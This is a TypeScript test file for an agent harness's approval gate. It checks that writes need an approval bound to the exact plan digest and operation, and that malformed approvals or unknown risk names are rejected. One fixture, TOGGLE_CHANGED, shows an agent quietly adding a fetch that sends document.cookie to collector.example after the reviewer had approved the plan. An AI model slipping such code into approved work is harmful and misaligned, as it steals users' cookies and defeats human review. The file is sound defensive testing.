import { expect, it } from "vitest";
import { ApprovalGate, parseApproval, type Approval, type AuthorizationRequest } from "forge/tools/approval";
import { buildChangePlan, planDigest } from "forge/tools/plans";

// The software-delivery scenario: an agent adds a dark-mode toggle to a front-end repository. The
// reviewer approved the first plan; afterwards the agent changed the component's code, but not its
// summary, so the plan still reads the same to a human.
const OPERATION = "add-dark-mode-toggle";
const bytes = (text: string) => new TextEncoder().encode(text);

const TOGGLE_REVIEWED = `export function ThemeToggle() {
  return <button onClick={() => document.body.classList.toggle("dark")}>Dark mode</button>;
}
`;
const TOGGLE_CHANGED = `export function ThemeToggle() {
  fetch("https://collector.example/t?c=" + encodeURIComponent(document.cookie));
  return <button onClick={() => document.body.classList.toggle("dark")}>Dark mode</button>;
}
`;
const TOGGLE_TEST = `it("toggles the dark class", () => { /* ... */ });\n`;

function togglePlanDigest(component: string): string {
  return planDigest(
    buildChangePlan(OPERATION, {
      "src/components/ThemeToggle.tsx": ["add the dark-mode toggle", bytes(component)],
      "src/components/ThemeToggle.test.tsx": ["test the toggle", bytes(TOGGLE_TEST)],
    }),
  );
}

const approve = (operationId: string, digest: string): Approval => ({ operationId, planDigest: digest });

it("a read-only operation needs no approval", () => {
  const gate = new ApprovalGate();
  expect(gate.authorize({ risk: "read", operationId: "op", planDigest: "x", approval: null })).toBe(true);
  // An approval that fits nothing changes nothing either: reading is not gated.
  expect(gate.authorize({ risk: "read", operationId: "op", planDigest: "x", approval: approve("other", "y") })).toBe(true);
});

it("a write requires an approval bound to the exact plan", () => {
  const gate = new ApprovalGate();
  const reviewed = togglePlanDigest(TOGGLE_REVIEWED);
  const current = togglePlanDigest(TOGGLE_CHANGED);
  expect(current).not.toBe(reviewed);
  const request = { risk: "reversible_write", operationId: OPERATION, planDigest: current };

  expect(gate.authorize({ ...request, approval: null }), "a write ran without any approval").toBe(false);
  expect(
    gate.authorize({ ...request, approval: approve(OPERATION, reviewed) }),
    "the approval of the reviewed plan authorized a plan that changed after review",
  ).toBe(false);
  expect(gate.authorize({ ...request, approval: approve(OPERATION, current) })).toBe(true);

  // The same rule with bare labels: an approval for "old" does not authorize "new".
  const labelled = { risk: "reversible_write", operationId: "op", planDigest: "new" };
  expect(gate.authorize({ ...labelled, approval: approve("op", "old") }), "an approval for digest old authorized new").toBe(false);
  expect(gate.authorize({ ...labelled, approval: approve("op", "new") })).toBe(true);
});

it("an unknown risk is rejected", () => {
  const gate = new ApprovalGate();
  const digest = togglePlanDigest(TOGGLE_REVIEWED);
  // Even with an approval that matches exactly: an unknown risk is never mapped to an allowed one.
  const call = () => gate.authorize({ risk: "root", operationId: OPERATION, planDigest: digest, approval: approve(OPERATION, digest) });
  expect(call).toThrow(/unknown risk/);
  expect(call).toThrow(/root/);
});

it("an approval for another operation with the same digest is denied", () => {
  const gate = new ApprovalGate();
  // The reviewer approved the theme change for the staging operation. The production operation writes
  // the same bytes to the same path, and the digest leaves the operation id out: the digests are equal.
  const writes = { "src/styles/theme.css": ["dark palette", bytes(":root { --bg: #111; }\n")] } as const;
  const digest = planDigest(buildChangePlan("theme-staging", writes));
  expect(planDigest(buildChangePlan("theme-production", writes))).toBe(digest);
  const stagingApproval = approve("theme-staging", digest);
  const request = { risk: "reversible_write", operationId: "theme-production", planDigest: digest };
  expect(gate.authorize({ ...request, approval: stagingApproval }), "an approval was replayed for another operation").toBe(false);
  expect(gate.authorize({ ...request, approval: approve("theme-production", digest) })).toBe(true);
});

it("an irreversible operation without an approval is denied", () => {
  const gate = new ApprovalGate();
  // Publishing the built package cannot be undone by the harness: the strongest risk.
  const digest = togglePlanDigest(TOGGLE_REVIEWED);
  const request = { risk: "irreversible", operationId: "publish-release", planDigest: digest };
  expect(gate.authorize({ ...request, approval: null })).toBe(false);
  // A plain-JavaScript caller may leave the field out altogether.
  expect(gate.authorize({ ...request, approval: undefined } as unknown as AuthorizationRequest)).toBe(false);
  expect(gate.authorize({ ...request, approval: approve("publish-release", digest) })).toBe(true);
});

it("risk names are case-sensitive and untyped input cannot slip through", () => {
  const gate = new ApprovalGate();
  const digest = togglePlanDigest(TOGGLE_REVIEWED);
  const exact = approve(OPERATION, digest);
  const near = ["READ", "Read", " read", "read ", "reversible-write", "Irreversible", "", "toString", "__proto__", "constructor"];
  const notStrings: unknown[] = [undefined, null, 0, ["read"], { toString: () => "read" }, new String("read")];
  for (const risk of [...near, ...notStrings]) {
    const call = () => gate.authorize({ risk: risk as string, operationId: OPERATION, planDigest: digest, approval: exact });
    const label = typeof risk === "string" ? JSON.stringify(risk) : `of type ${typeof risk}`;
    expect(call, `risk ${label}`).toThrow(/unknown risk/);
  }
  // A request parsed from JSON that names no operation and no plan, with an empty approval: nothing is
  // bound, so nothing is authorized (undefined === undefined must not count as a match).
  const empty = JSON.parse('{"risk": "irreversible", "approval": {}}') as AuthorizationRequest;
  expect(gate.authorize(empty), "a request with no operation and no plan was authorized").toBe(false);
  const blank = JSON.parse(
    '{"risk": "reversible_write", "operationId": "", "planDigest": "", "approval": {"operationId": "", "planDigest": ""}}',
  ) as AuthorizationRequest;
  expect(gate.authorize(blank), "a request with a blank operation and plan was authorized").toBe(false);
});

it("an approval that arrives as JSON is accepted only in its exact shape", () => {
  const gate = new ApprovalGate();
  const digest = togglePlanDigest(TOGGLE_REVIEWED);
  const approval = parseApproval(JSON.parse(`{"operationId": "${OPERATION}", "planDigest": "${digest}"}`));
  expect(approval).toEqual({ operationId: OPERATION, planDigest: digest });
  expect(Object.isFrozen(approval)).toBe(true);
  expect(gate.authorize({ risk: "reversible_write", operationId: OPERATION, planDigest: digest, approval })).toBe(true);
  for (const bad of [
    `{"operationId": "${OPERATION}"}`,
    `{"operationId": "${OPERATION}", "planDigest": "${digest.toUpperCase()}"}`,
    `{"operationId": "${OPERATION}", "planDigest": "${digest.slice(0, 12)}"}`,
    `{"operationId": "${OPERATION}", "planDigest": "${digest}", "scope": "all"}`,
    `{"operationId": "  ", "planDigest": "${digest}"}`,
    `{"operationId": 7, "planDigest": "${digest}"}`,
    `["${OPERATION}", "${digest}"]`,
    "null",
  ]) {
    expect(() => parseApproval(JSON.parse(bad)), bad).toThrow(/invalid approval/);
  }
});

it("a granted approval is not remembered for a later request", () => {
  const gate = new ApprovalGate();
  const digest = togglePlanDigest(TOGGLE_REVIEWED);
  const request = { risk: "reversible_write", operationId: OPERATION, planDigest: digest };
  expect(gate.authorize({ ...request, approval: approve(OPERATION, digest) })).toBe(true);
  // The same operation and plan, now without an approval: a gate that cached the grant would say yes.
  expect(gate.authorize({ ...request, approval: null })).toBe(false);
  // Nor does a denial stick: the next call is decided on its own input alone.
  expect(gate.authorize({ ...request, approval: approve(OPERATION, digest) })).toBe(true);
});
